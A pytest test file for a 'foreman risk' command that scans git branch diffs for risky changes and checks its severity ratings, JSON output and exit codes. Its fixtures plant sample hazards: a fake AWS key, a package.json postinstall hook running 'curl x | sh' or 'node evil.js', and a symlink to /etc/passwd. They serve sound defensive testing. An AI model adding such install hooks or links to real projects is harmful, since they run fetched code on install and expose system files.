"""The risk report of a real commit in a real repository, and ``foreman risk`` on it."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from foreman.cli import main
from foreman.risk.report import risk_report
from tests.repos.conftest import commit_all, git_home, repo, sh, write  # noqa: F401 (fixtures)

AWS = "AKIA" + "Q3EGRIEXK4ZJ7M2P"


@pytest.fixture
def risky(repo: Path) -> tuple[Path, str]:
    """``repo`` with a branch ``feature`` that adds a key, a hook, an executable, a symlink out."""
    sh(repo, "checkout", "-q", "-b", "feature")
    write(repo / "src" / "app.py", f'def main():\n    return 1\nKEY = "{AWS}"\n')
    write(repo / "package.json", '{\n  "scripts": {\n    "postinstall": "curl x | sh"\n  }\n}\n')
    write(repo / "run.sh", "#!/bin/sh\necho hi\n")
    os.chmod(repo / "run.sh", 0o755)
    os.symlink("/etc/passwd", repo / "pw")
    write(repo / "blob.dat", os.urandom(2 * 1024 * 1024))
    head = commit_all(repo, "risky")
    sh(repo, "checkout", "-q", "main")
    return repo, head


async def test_report_of_exact_commit(risky: tuple[Path, str]) -> None:
    root, head = risky
    diff, risks = await risk_report(root, "main", "feature")
    assert diff.head == head
    got = {(r.kind, r.severity, r.path, r.line) for r in risks}
    assert ("secret", "critical", "src/app.py", 3) in got
    assert ("install_hook", "critical", "package.json", 3) in got
    assert ("executable", "medium", "run.sh", None) in got
    assert ("symlink", "high", "pw", None) in got
    assert ("large_file", "medium", "blob.dat", None) in got
    assert ("binary", "low", "blob.dat", None) in got
    assert risks[0].severity == "critical"


def test_cli_json_and_exit_code(risky: tuple[Path, str], capsys: pytest.CaptureFixture[str]) -> None:
    root, head = risky
    assert main(["risk", str(root), "feature", "--json"]) == 1
    data = json.loads(capsys.readouterr().out)
    assert data["head"] == head
    assert ("secret", "critical", "src/app.py", 3) in {(r["kind"], r["severity"], r["path"], r["line"]) for r in data["risks"]}
    assert AWS not in json.dumps(data)
    # a clean branch: exit 0, plain text
    sh(root, "checkout", "-q", "-b", "clean")
    write(root / "docs.md", "hello\n")
    commit_all(root, "docs")
    assert main(["risk", str(root), "clean", "--base", "main"]) == 0
    assert "no risks found" in capsys.readouterr().out


def test_cli_bad_revision_is_a_clear_error(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["risk", str(repo), "no-such-branch"]) == 2
    assert "no-such-branch" in capsys.readouterr().err


async def test_merge_risks_of_a_branch_and_a_failed_scan(risky: tuple[Path, str]) -> None:
    from foreman.risk.report import merge_risks

    root, _ = risky
    risks = await merge_risks(root, "main", "feature", task_text="Fix src/app.py")
    assert risks[0].severity == "critical"
    outside = [r for r in risks if r.kind == "outside_area"]
    assert len(outside) == 1 and "package.json" in outside[0].message
    failed = await merge_risks(root, "main", "no-such-branch")
    assert [(r.severity, r.message.startswith("the risk scan could not run")) for r in failed] == [("low", True)]


def test_cli_default_base_is_the_default_branch_not_head(risky: tuple[Path, str], capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 15: with the scanned branch checked out, the default base is still ``main``."""
    root, head = risky
    sh(root, "checkout", "-q", "feature")
    assert main(["risk", str(root), "feature", "--json"]) == 1
    data = json.loads(capsys.readouterr().out)
    assert data["head"] == head and data["filesChanged"] >= 5
    assert ("install_hook", "critical", "package.json", 3) in {(r["kind"], r["severity"], r["path"], r["line"]) for r in data["risks"]}


def test_cli_same_commit_is_not_an_all_clear(risky: tuple[Path, str], capsys: pytest.CaptureFixture[str]) -> None:
    """Base and head naming the same commit (or head already in base) says so, exit 2, no "no risks found"."""
    root, _ = risky
    assert main(["risk", str(root), "feature", "--base", "feature"]) == 2
    out = capsys.readouterr()
    assert "no risks found" not in out.out
    assert "nothing to scan" in out.err and "feature" in out.err
    assert main(["risk", str(root), "main", "--base", "feature"]) == 2  # main is an ancestor of feature
    assert "nothing to scan" in capsys.readouterr().err


async def test_report_reads_a_changed_minified_manifest(repo: Path) -> None:
    """Issue 15: a package.json rewritten as one minified line is read from its content, old vs new."""
    write(repo / "package.json", '{\n  "name": "x",\n  "dependencies": {\n    "keep": "1.0.0"\n  }\n}\n')
    commit_all(repo, "manifest")
    sh(repo, "checkout", "-q", "-b", "minified")
    write(repo / "package.json", '{"name":"x","scripts":{"postinstall":"node evil.js"},"dependencies":{"keep":"1.0.0","left-pad":"1.0.0"}}\n')
    commit_all(repo, "minify")
    _, risks = await risk_report(repo, "main", "minified")
    got = {(r.kind, r.severity, r.path, r.line) for r in risks}
    assert ("install_hook", "critical", "package.json", 1) in got
    (dep,) = [r for r in risks if r.kind == "dependency"]
    assert "left-pad" in dep.message and "keep" not in dep.message


async def test_default_branch_follows_origin_head_then_main(risky: tuple[Path, str]) -> None:
    from foreman.risk.report import default_branch

    root, _ = risky
    sh(root, "checkout", "-q", "feature")
    assert await default_branch(root) == "main"
    sh(root, "branch", "trunk", "main")
    sh(root, "update-ref", "refs/remotes/origin/trunk", "main")
    sh(root, "symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/trunk")
    assert await default_branch(root) == "trunk"
